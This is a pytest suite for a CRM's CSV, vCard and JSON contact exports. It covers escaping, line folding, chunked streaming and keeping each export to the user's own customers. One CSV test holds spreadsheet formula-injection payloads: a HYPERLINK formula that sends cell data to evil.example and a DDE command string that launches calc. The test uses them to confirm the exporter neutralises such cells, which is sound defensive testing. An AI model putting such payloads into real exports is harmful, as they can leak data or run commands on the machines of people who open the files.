"""CSV, vCard and JSON exports: content, spreadsheet safety, escaping, scoping."""

from __future__ import annotations

import csv
import io
import json

import pytest
import vobject

from extramile.book.models import Customer, EmailAddress, Fact, PhoneNumber
from extramile.exports import csvfile, jsonfile, records, vcard
from extramile.exports.contacts import entries
from tests.conftest import make_customer
from tests.exports.helpers import EMAIL, PHONE, WORK_EMAIL, fill

pytestmark = pytest.mark.django_db

FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def csv_of(user) -> str:
    return "".join(csvfile.lines(Customer.objects.visible_to(user)))


def vcards_of(user) -> str:
    return "".join(vcard.cards(Customer.objects.visible_to(user)))


def json_of(user, now) -> dict:
    return json.loads("".join(jsonfile.stream_book(user, now)))


# --- CSV ---------------------------------------------------------------------------------------


def test_csv_neutralises_cells_a_spreadsheet_would_run(owner):
    nasty = make_customer(
        owner,
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1",
        company_name="@SUM(A1:A9)",
        notes="-2+3",
        street="\tcmd|' /C calc'!A0",
        city="\rEvil",
    )
    rows = read_csv(csv_of(owner))
    (row,) = rows
    assert row["First Name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert row["Last Name"] == "'+1"
    assert row["Company"] == "'@SUM(A1:A9)"
    assert row["Notes"] == "'-2+3"
    assert row["Street"] == "'\tcmd|' /C calc'!A0"
    assert row["City"] == "'\rEvil"
    assert row["ID"] == str(nasty.pk)
    for value in row.values():
        assert not value.startswith(FORMULAS), value


def test_csv_row_has_everything_an_address_book_needs(owner, colleague, now):
    anna = make_customer(owner, "Anna", "Smith", birth_month=4, birth_day=15, tier="A")
    fill(anna, make_customer(owner, "Ben", "Smith"), now)
    anna.do_not_call = True
    anna.save()
    rows = {r["First Name"]: r for r in read_csv(csv_of(owner))}
    row = rows["Anna"]
    assert row["Last Name"] == "Smith"
    assert row["E-mail"] == EMAIL
    assert row["E-mail Label"] == "home"
    assert row["Other E-mails"] == WORK_EMAIL
    assert row["Phone"] == "'" + PHONE  # E.164 starts with "+": neutralised like any formula
    assert row["Phone Label"] == "mobile"
    assert row["Other Phones"] == "'+442079460958"
    assert (row["Street"], row["City"], row["Region"], row["Postal Code"], row["Country"]) == (
        "1 Elm St",
        "Springfield",
        "IL",
        "62701",
        "US",
    )
    assert row["Household"] == "The Smith Family"
    assert row["Birthday"] == "'--04-15"  # no year: ISO's --MM-DD, neutralised
    assert row["Anniversary"] == "2005-06-12"
    assert row["Status"] == "Customer"
    assert row["Tier"] == "A"
    assert row["Owner"] == owner.username
    assert (row["Do Not Call"], row["Do Not E-mail"]) == ("yes", "no")
    assert list(rows["Ben"].keys()) == csvfile.HEADERS
    assert rows["Ben"]["E-mail"] == ""


def test_csv_quotes_line_breaks_and_commas(owner):
    make_customer(owner, "Dana", "O'Neil, Jr.", notes='Line one\nLine "two", three')
    (row,) = read_csv(csv_of(owner))
    assert row["Last Name"] == "O'Neil, Jr."
    assert row["Notes"] == 'Line one\nLine "two", three'


def test_csv_holds_only_the_users_customers(owner, customer, colleague_customer, outsider_customer):
    names = {r["First Name"] for r in read_csv(csv_of(owner))}
    assert names == {"Anna"}


def test_csv_streams_in_chunks(owner, monkeypatch):
    monkeypatch.setattr(records, "CHUNK", 2)
    for n in range(5):
        make_customer(owner, f"P{n}", "Chunk")

    chunks = list(records.chunks(Customer.objects.visible_to(owner), size=2))
    assert [len(c) for c in chunks] == [2, 2, 1]
    assert len(read_csv(csv_of(owner))) == 5


# --- vCard -------------------------------------------------------------------------------------


def test_vcard_parses_back_with_vobject(owner, now):
    anna = make_customer(
        owner,
        "Anna",
        "Smith",
        birth_month=4,
        birth_day=15,
        preferred_name="Annie",
        company_name="Smith Works",
        notes="Prefers mornings",
    )
    fill(
        anna,
        make_customer(owner, "Ben", "Smith", birth_month=2, birth_day=29, birth_year=1988),
        now,
    )
    text = vcards_of(owner)
    cards = list(vobject.readComponents(text))
    assert len(cards) == 2
    by_name = {c.fn.value: c for c in cards}
    card = by_name["Anna Smith"]
    assert card.version.value == "4.0"
    assert card.n.value.family == "Smith" and card.n.value.given == "Anna"
    assert card.nickname.value == "Annie"
    assert card.org.value == ["Smith Works"]
    assert [e.value for e in card.contents["email"]] == [EMAIL, WORK_EMAIL]
    assert card.contents["email"][0].params["PREF"] == ["1"]
    assert [t.value for t in card.contents["tel"]] == [PHONE, "+442079460958"]
    assert card.contents["tel"][0].params["TYPE"] == ["cell"]
    assert card.contents["tel"][1].params["TYPE"] == ["work"]
    adr = card.adr.value
    assert (adr.street, adr.city, adr.region, adr.code, adr.country) == (
        "1 Elm St",
        "Springfield",
        "IL",
        "62701",
        "US",
    )
    assert card.bday.value == "--0415"  # a birthday without a year
    assert card.anniversary.value == "20050612"
    notes = [n.value for n in card.contents["note"]]
    assert notes == ["Prefers mornings", "Loves sailing; owns a boat"]
    assert card.categories.value == ["travel", "sailing", "boats"]
    assert card.uid.value.startswith("urn:uuid:")
    assert by_name["Ben Smith"].bday.value == "19880229"


def test_vcard_escapes_separators_and_line_breaks(owner):
    tricky = make_customer(
        owner, "Jo; Ann", "Smith, Jr.", company_name="A; B, C", notes="one\ntwo\\three, four; five"
    )
    Fact.objects.create(customer=tricky, text="Said: “no, thanks; really”", tags="a,b")
    text = vcards_of(owner)
    assert "FN:Jo\\; Ann Smith\\, Jr." in text
    assert "N:Smith\\, Jr.;Jo\\; Ann;;;" in text
    assert "NOTE:one\\ntwo\\\\three\\, four\\; five" in text
    (card,) = vobject.readComponents(text)
    assert card.fn.value == "Jo; Ann Smith, Jr."
    assert card.n.value.family == "Smith, Jr." and card.n.value.given == "Jo; Ann"
    assert card.contents["note"][0].value == "one\ntwo\\three, four; five"
    assert card.contents["note"][1].value == "Said: “no, thanks; really”"


def test_vcard_folds_long_lines_at_75_octets_without_splitting_characters(owner):
    long_note = "Ünïcödé façade résumé 東京 🚲 " * 20
    make_customer(owner, "Zoë", "Ångström", notes=long_note.strip())
    text = vcards_of(owner)
    assert text.endswith("END:VCARD\r\n")
    lines = text.split("\r\n")
    assert all(len(line.encode("utf-8")) <= 75 for line in lines)
    assert any(line.startswith(" ") for line in lines)  # it did fold
    assert "\n" not in text.replace("\r\n", "")
    (card,) = vobject.readComponents(text)
    assert card.note.value == long_note.strip()
    assert card.fn.value == "Zoë Ångström"


def test_vcard_of_a_company_without_a_person(owner):
    make_customer(owner, "", "", company_name="Acme, Inc.")
    (card,) = vobject.readComponents(vcards_of(owner))
    assert card.fn.value == "Acme, Inc."
    assert card.kind.value == "org"


def test_vcard_uid_is_stable(owner, customer):
    first = vcards_of(owner)
    second = vcards_of(owner)
    assert first == second
    assert vcard.uid(customer.pk) in first


def test_entries_keep_primary_first(owner, customer):
    EmailAddress.objects.create(customer=customer, address="second@example.com")
    EmailAddress.objects.create(customer=customer, address="first@example.com", is_primary=True)
    PhoneNumber.objects.create(customer=customer, number="+14155550199")

    (entry,) = entries(Customer.objects.visible_to(owner))
    assert entry.emails[0][0] == "first@example.com"


# --- JSON --------------------------------------------------------------------------------------


def test_json_export_holds_everything_about_each_customer(owner, now):
    anna = make_customer(owner, "Anna", "Smith", birth_month=4, birth_day=15)
    ben = make_customer(owner, "Ben", "Smith")
    fill(anna, ben, now)
    data = json_of(owner, now)
    assert data["format"] == "extramile-export" and data["version"] == 1
    assert data["exported_by"] == owner.username
    customers = {c["id"]: c for c in data["customers"]}
    record = customers[anna.pk]
    assert record["first_name"] == "Anna" and record["birth_month"] == 4
    assert record["owner_username"] == owner.username
    assert [e["address"] for e in record["emails"]] == [EMAIL, WORK_EMAIL]
    assert [p["number"] for p in record["phones"]] == [PHONE, "+442079460958"]
    assert record["key_dates"][0]["kind"] == "wedding"
    assert record["facts"][0]["text"] == "Loves sailing; owns a boat"
    assert record["interests"][0]["topic"] == "travel"
    assert record["sales"][0]["description"] == "Touring bike"
    assert record["sales"][0]["amount"] == "1249.00"
    assert record["promises"][0]["description"] == "Call back about the warranty"
    assert record["contacts"][0]["summary"] == "Talked about bikes"
    (request,) = record["service_requests"]
    assert request["subject"] == "Squeaky brakes"
    assert request["events"], "the request's timeline is exported with it"
    assert [m["summary"] for m in record["inbound_messages"]] == ["Is my bike ready?"]
    assert {"Ask how the bike rides"} <= {a["title"] for a in record["actions"]}
    assert record["cards"], "the thank-you note for the sale"
    assert record["relationships"] == [
        {
            "id": record["relationships"][0]["id"],
            "kind": "parent",
            "of_customer_id": ben.pk,
            "note": "",
        }
    ]
    assert customers[ben.pk]["relationships"][0]["kind"] == "child"
    assert record["referrals_given"][0]["referred_id"] == ben.pk
    assert customers[ben.pk]["referrals_received"][0]["referrer_id"] == anna.pk
    assert [h["name"] for h in data["households"]] == ["The Smith Family"]
    assert [s["what_done"] for s in data["stories"]] == ["Fixed the brakes on a Sunday"]
    assert [u["username"] for u in data["users"]] == [owner.username]
    assert [m["summary"] for m in data["unmatched_inbound_messages"]] == ["Missed call"]


def test_json_export_is_scoped(
    owner,
    colleague,
    outsider,
    manager,
    admin_user,
    customer,
    colleague_customer,
    outsider_customer,
    now,
):
    def names(user):
        return {c["first_name"] for c in json_of(user, now)["customers"]}

    assert names(owner) == {"Anna"}
    assert names(colleague) == {"Carl"}
    assert names(outsider) == {"Xena"}
    assert names(manager) == {"Anna", "Carl"}
    assert names(admin_user) == {"Anna", "Carl", "Xena"}
    from extramile.inbox.services import log_inbound

    log_inbound(
        channel="call",
        from_address="(212) 555-0100",
        received_at=now,
        summary="Who is this?",
        now=now,
        owner=owner,
    )
    assert len(json_of(owner, now)["unmatched_inbound_messages"]) == 1
    assert len(json_of(manager, now)["unmatched_inbound_messages"]) == 1
    assert json_of(outsider, now)["unmatched_inbound_messages"] == []


def test_json_export_leaves_out_links_to_customers_outside_the_scope(
    owner, customer, outsider_customer, now
):
    from extramile.book.models import Referral, Relationship

    Relationship.objects.create(
        from_customer=customer, to_customer=outsider_customer, kind="sibling"
    )
    Referral.objects.create(referrer=outsider_customer, referred=customer, date=now.date())
    (record,) = json_of(owner, now)["customers"]
    assert record["relationships"] == []
    assert record["referrals_received"] == []
    text = "".join(jsonfile.stream_book(owner, now))
    assert "Xena" not in text and "Outis" not in text


def test_json_export_streams_a_piece_per_customer(owner, now, monkeypatch):
    monkeypatch.setattr(records, "CHUNK", 2)
    for n in range(5):
        make_customer(owner, f"P{n}", "Stream")
    pieces = list(jsonfile.stream_book(owner, now))
    customer_pieces = [p for p in pieces if '"Stream"' in p]
    assert len(customer_pieces) == 5
    assert len(json.loads("".join(pieces))["customers"]) == 5


def test_empty_book_exports_are_valid(owner, now):
    assert read_csv(csv_of(owner)) == []
    assert vcards_of(owner) == ""
    assert json_of(owner, now)["customers"] == []


def test_customer_document_holds_one_customer_and_their_stories(owner, now):
    anna = make_customer(owner, "Anna", "Smith")
    fill(anna, make_customer(owner, "Ben", "Smith"), now)
    document = jsonfile.customer_document(owner, anna, now)
    assert document["customer"]["id"] == anna.pk
    assert document["household"]["name"] == "The Smith Family"
    assert [s["what_done"] for s in document["stories"]] == ["Fixed the brakes on a Sunday"]
    counts = jsonfile.customer_counts(document)
    assert counts["customers"] == 1 and counts["emails"] == 2 and counts["stories"] == 1
    json.loads(jsonfile.customer_json(document))
